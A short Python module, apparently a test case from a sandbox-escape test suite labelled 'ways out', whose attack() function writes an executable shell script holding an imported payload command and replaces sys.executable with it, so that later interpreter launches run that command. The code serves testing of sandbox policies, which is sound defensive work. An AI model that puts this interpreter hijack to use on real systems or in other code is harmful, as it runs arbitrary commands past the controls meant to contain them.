"""sys.executable is replaced before the application starts it."""
CATEGORY = "ways out"
REACH = "run"
POLICIES = "baseline"

import os
import sys

from . import payload


def attack():
    path = payload.ROOT + "/tmp/python"
    with open(path, "w") as file:
        file.write("#!/bin/sh\n" + payload.COMMAND)
    os.chmod(path, 0o755)
    sys.executable = path
